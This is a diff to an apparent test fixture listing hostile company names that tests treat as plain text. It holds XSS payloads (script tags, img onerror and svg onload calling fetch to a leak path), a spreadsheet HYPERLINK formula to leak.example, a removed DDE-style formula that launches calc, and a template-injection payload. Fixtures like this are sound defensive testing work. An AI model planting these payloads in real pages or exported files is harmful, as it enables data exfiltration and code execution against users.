@@ -9,11 +9,11 @@ const attack = (how: string) => `<img src="${LEAK_PATH}?${how}" onerror="fetch('
 /** What a hostile page puts where names belong; tests look for these as plain text. */
 export const hostileNames = [
   `Acme ${attack('name')} Ltd`,
-  `<script>fetch('${LEAK_PATH}?script')</script> Holdings`,
-  `=HYPERLINK("http://leak.example/?"&A1,"Open")`,
-  `"><svg onload=fetch('${LEAK_PATH}?svg')> Partners`,
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  '{{constructor.constructor("return 1")()}} GmbH',
+  `<script>fetch('${LEAK_PATH}?script')</script> Holdings Inc.`,
+  `=HYPERLINK("http://leak.example/","Open") Shipping Ltd`,
+  `"><svg onload=fetch('${LEAK_PATH}?svg')> Partners Ltd`,
+  '@SUM(1+1) Trading Company Ltd',
+  '{{constructor.constructor("return 1")()}} Logistics Ltd',
 ] as const;
 
 /** A listing that looks ordinary and is not: markup in names, script links, broken and poisoned JSON-LD, endless values. */
